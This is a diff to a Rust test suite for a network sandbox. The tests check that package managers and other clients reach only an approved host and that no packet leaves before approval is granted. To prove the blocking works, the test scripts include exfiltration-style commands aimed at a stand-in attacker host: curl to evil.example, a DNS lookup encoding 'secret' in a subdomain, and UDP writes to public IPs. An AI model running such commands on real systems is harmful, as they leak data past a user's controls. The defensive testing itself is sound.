@@ -14,6 +14,7 @@ use guarda_sandbox::relay::{Later, Outside, Refused, Relay};
 use guarda_sandbox::{Network, SandboxLevel, Spec};
 
 use crate::jail::{Done, Jail, block_on, program, run_in, sandbox};
+use crate::stage::staged;
 
 #[derive(Default)]
 struct World {
@@ -124,10 +125,15 @@ impl Came {
 
 /// Runs a script with `good.example` on a port admitted.
 fn run(jail: &Jail, script: &str, port: u16) -> Came {
+    run_within(&jail.spec(SandboxLevel::Confined), jail, script, port)
+}
+
+/// The same in a cell of this kind.
+fn run_within(spec: &Spec, jail: &Jail, script: &str, port: u16) -> Came {
     let world = Arc::new(World::default());
     let port_text = port.to_string();
     let start = jail.script(script, &[("port", &port_text), ("GIT_TERMINAL_PROMPT", "0")]);
-    let spec = Spec { network: Network::Hosts, ..jail.spec(SandboxLevel::Confined) };
+    let spec = Spec { network: Network::Hosts, ..spec.clone() };
     let rules: HostRules = [rule("good.example", port)].into_iter().collect();
     block_on(async {
         let mut cell = sandbox().open(&spec).await.unwrap();
@@ -241,6 +247,198 @@ fn npm_installs_from_its_registry_and_not_from_a_planted_host() {
     folder(&jail, &[("foo", described("good.example").as_bytes())]);
     let good = run(&jail, script, server.port);
     assert!(good.done.succeeds().out.contains("foo"), "{:#?}", good.done);
+    // The same where its writes are held back.
+    std::fs::remove_dir_all(jail.at("work/node_modules")).unwrap();
+    let staged = run_within(&staged(&jail, "work", "npm"), &jail, script, server.port);
+    assert!(staged.done.succeeds().out.contains("foo"), "{:#?}", staged.done);
+    assert!(staged.of("good.example").received > 0 && !jail.at("work/node_modules").exists());
+    assert!(jail.at("guard/worknpm/upper/node_modules/foo/package.json").exists());
+    folder(&jail, &[("foo", described("evil.example").as_bytes())]);
+    let planted = run_within(&self::staged(&jail, "work", "evil"), &jail, script, server.port);
+    planted.done.fails();
+    assert!(planted.of("evil.example").refused > 0 && !planted.looked_up("evil.example"));
+    assert_eq!(server.named("evil.example"), 0);
+}
+
+#[test]
+fn cargo_fetches_from_its_registry_and_not_from_a_planted_host() {
+    let jail = Jail::new();
+    let make = "mkdir -p foo-1.0.0/src && touch foo-1.0.0/src/lib.rs && printf '[package]\\nname = \"foo\"\\nversion = \"1.0.0\"\\n' > foo-1.0.0/Cargo.toml && tar czf foo.crate foo-1.0.0 && sha256sum foo.crate";
+    let made = program("/bin/bash").args(["-c", make]).current_dir(jail.outside("")).output().unwrap();
+    assert!(made.status.success(), "{made:?}");
+    let sum = String::from_utf8(made.stdout).unwrap()[..64].to_owned();
+    let entry = format!(
+        "{{\"name\":\"foo\",\"vers\":\"1.0.0\",\"deps\":[],\"cksum\":\"{sum}\",\"features\":{{}},\"yanked\":false}}\n"
+    );
+    let krate = std::fs::read(jail.outside("foo.crate")).unwrap();
+    let files: [(&str, &[u8]); 2] = [("index/3/f/foo", entry.as_bytes()), ("dl/foo/1.0.0/download", &krate)];
+    let server = Server::of(&folder(&jail, &files));
+    let cargo = PathBuf::from(env!("CARGO"));
+    let script = format!("rm -rf p && mkdir -p p/src p/.cargo && cd p && touch src/lib.rs && export CARGO_HOME=\"$TMPDIR/cargo\"
+        printf '[package]\\nname = \"p\"\\nversion = \"0.1.0\"\\n[dependencies]\\nfoo = \"1\"\\n' > Cargo.toml
+        printf '[source.crates-io]\\nreplace-with = \"mine\"\\n[source.mine]\\nregistry = \"sparse+http://good.example:%s/index/\"\\n[net]\\nretry = 0\\n' $port > .cargo/config.toml
+        {} fetch && ls $CARGO_HOME/registry/src/*", cargo.display());
+    let toolchain = cargo.ancestors().nth(2).unwrap().to_owned();
+    let spec = || {
+        let mut spec = jail.spec(SandboxLevel::Confined);
+        spec.readable.push(toolchain.clone());
+        spec
+    };
+    let config = |host: &str| format!("{{\"dl\":\"http://{host}:{}/dl\"}}", server.port);
+    folder(&jail, &[("index/config.json", config("evil.example").as_bytes())]);
+    let planted = run_within(&spec(), &jail, &script, server.port);
+    planted.done.fails();
+    assert!(planted.of("evil.example").refused > 0 && !planted.looked_up("evil.example"));
+    assert_eq!(server.named("evil.example"), 0);
+    folder(&jail, &[("index/config.json", config("good.example").as_bytes())]);
+    let good = run_within(&spec(), &jail, &script, server.port);
+    assert!(good.done.succeeds().out.contains("foo-1.0.0"), "{:#?}", good.done);
+    assert_eq!(*good.world.asked.lock().unwrap(), [""; 0]);
+}
+
+/// Takes connections, says `greeting` first, and tells what each client said first.
+fn listener(greeting: &'static [u8]) -> (u16, std::sync::mpsc::Receiver<Vec<u8>>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let (tell, told) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        while let Ok((mut stream, _)) = listener.accept() {
+            let _ = stream.write_all(greeting);
+            let mut first = [0; 4096];
+            let got = stream.read(&mut first).unwrap_or(0);
+            let _ = tell.send(first[..got].to_vec());
+        }
+    });
+    (port, told)
+}
+
+#[test]
+fn clients_of_other_protocols_reach_the_admitted_host_and_no_other() {
+    let packages: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
+    let jail = Jail::new();
+    let rows: [(&str, &[u8], &[u8]); 4] = [
+        ("psql -h HOST -p $port -U a -c 'select 1' postgres", b"", b"\0\0\0\x08"),
+        (
+            "ssh -F none -p $port -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null a@HOST true",
+            b"SSH-2.0-test\r\n",
+            b"SSH-2.0-",
+        ),
+        (
+            "export GIT_SSH_COMMAND='ssh -F none -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null'; git ls-remote ssh://a@HOST:$port/x",
+            b"SSH-2.0-test\r\n",
+            b"SSH-2.0-",
+        ),
+        (
+            "cd $TMPDIR && mkdir -p s/lists/partial c/archives/partial && echo 'deb [trusted=yes] http://HOST:'$port' ./' > list && apt-get -o Dir::State=$TMPDIR/s -o Dir::Cache=$TMPDIR/c -o Dir::Etc::sourcelist=$TMPDIR/list -o Dir::Etc::sourceparts=- -o APT::Sandbox::User= -o Acquire::Retries=0 -o Debug::NoLocking=1 update",
+            packages,
+            b"GET ",
+        ),
+    ];
+    for (line, greeting, first) in rows {
+        let (port, told) = listener(greeting);
+        let evil = run(&jail, &line.replace("HOST", "evil.example"), port);
+        assert!(evil.of("evil.example").refused > 0 && !evil.looked_up("evil.example"), "{line}");
+        assert!(told.try_recv().is_err(), "{line}");
+        // No server stands there: how the client ends does not matter, but what it said does.
+        let good = run(&jail, &line.replace("HOST", "good.example"), port);
+        let said = told.recv_timeout(std::time::Duration::from_secs(30));
+        let said = said.unwrap_or_else(|_| panic!("{line}: {:#?} {:#?}", good.done, good.traffic));
+        assert!(said.starts_with(first), "{line}: {:?} {:#?}", String::from_utf8_lossy(&said), good.done);
+        assert!(good.of("good.example").connections > 0, "{line}");
+    }
+}
+
+/// Says no after a while, or yes, and looks a name up by a datagram: a resolver's would be seen as this one is.
+struct Counted {
+    before: Mutex<Vec<u64>>,
+}
+
+/// How many packets have passed the interfaces of this process's network.
+fn packets() -> u64 {
+    let text = std::fs::read_to_string("/proc/self/net/dev").unwrap();
+    let counts = text.lines().filter_map(|line| line.split_once(':')).map(|(_, counts)| {
+        let counts: Vec<u64> = counts.split_whitespace().map(|count| count.parse().unwrap()).collect();
+        counts[1] + counts[9]
+    });
+    counts.sum()
+}
+
+impl Outside for Counted {
+    fn ask<'a>(&'a self, to: &'a [Destination]) -> Later<'a, Result<ApprovedHosts, Refused>> {
+        Box::pin(async move {
+            // As long as nobody has answered.
+            tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+            self.before.lock().unwrap().push(packets());
+            match to[0].host.to_string().as_str() {
+                "later.example" => Ok(approved(to)),
+                _ => Err(Refused::Answered("nobody said yes".to_owned())),
+            }
+        })
+    }
+
+    fn refused<'a>(&'a self, _to: &'a Destination, _why: &'a Refused) -> Later<'a, ()> {
+        Box::pin(async {})
+    }
+
+    fn look_up<'a>(&'a self, _name: &'a DomainName) -> Later<'a, std::io::Result<Vec<IpAddr>>> {
+        let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+        let _ = socket.send_to(b"who is it", "127.0.0.1:9");
+        Box::pin(async { Ok(vec![Ipv4Addr::from([203, 0, 113, 9]).into()]) })
+    }
+}
+
+fn approved(to: &[Destination]) -> ApprovedHosts {
+    use guarda_core::action::{Proposal, Request};
+    let action = Some("RUN_COMMAND".to_owned());
+    let request = Request { action, target: Some("true".to_owned().into()), ..Request::default() };
+    let subject = Arc::new(Proposal::parse(request).unwrap());
+    let pending =
+        guarda_core::gate::PendingHosts::new(subject, to.to_vec(), guarda_core::gate::Number([1; 16]));
+    let answer = pending.question().answer(guarda_core::gate::Says::Yes { channel: "test".to_owned() });
+    pending.settle(answer).unwrap()
+}
+
+/// In a network namespace of its own, so that no packet of others is counted: this test starts itself in one.
+#[test]
+fn not_one_packet_leaves_before_a_yes() {
+    const INNER: &str = "GUARDA_TEST_INNER";
+    if std::env::var_os(INNER).is_none() {
+        let own = std::env::current_exe().unwrap();
+        let line = "ip link set lo up && exec \"$0\" --exact relayed::not_one_packet_leaves_before_a_yes --nocapture";
+        let done = program("/usr/bin/unshare")
+            .args(["-rn", "/bin/bash", "-c", line])
+            .arg(own)
+            .envs(std::env::vars_os())
+            .env(INNER, "1")
+            .output()
+            .unwrap();
+        let text =
+            String::from_utf8_lossy(&done.stdout).into_owned() + &String::from_utf8_lossy(&done.stderr);
+        assert!(done.status.success() && text.contains("packets after a yes"), "{text}");
+        return;
+    }
+    let jail = Jail::new();
+    let world = Arc::new(Counted { before: Mutex::default() });
+    let spec = Spec { network: Network::Hosts, ..jail.spec(SandboxLevel::Confined) };
+    let begun = packets();
+    let mut run = |line: &str| {
+        block_on(async {
+            let mut cell = sandbox().open(&spec).await.unwrap();
+            let outside: Arc<dyn Outside> = Arc::clone(&world) as _;
+            let _relay = Relay::begin(cell.take_network().unwrap(), HostRules::default(), outside).unwrap();
+            run_in(&mut cell, jail.script(line, &[])).await
+        })
+    };
+    let tries = "for u in http://evil.example/ http://8.8.8.8/ https://evil2.example/; do curl -s --max-time 5 $u; curl -s --noproxy '*' --max-time 5 $u; done
+        getent hosts c2VjcmV0.evil.example; echo x > /dev/udp/8.8.8.8/53; ping -c1 -W1 8.8.8.8; echo x > /dev/udp/8.8.8.8/443; true";
+    run(tries).succeeds();
+    assert_eq!(packets(), begun, "after a no");
+    assert_eq!(world.before.lock().unwrap().len(), 3);
+    run("curl -s --max-time 5 http://later.example/; true").succeeds();
+    assert!(world.before.lock().unwrap().iter().all(|count| *count == begun), "{:?}", world.before);
+    // The counter counts: after the yes the name is looked up.
+    assert!(packets() > begun);
+    println!("packets after a yes: {}", packets() - begun);
 }
 
 #[test]
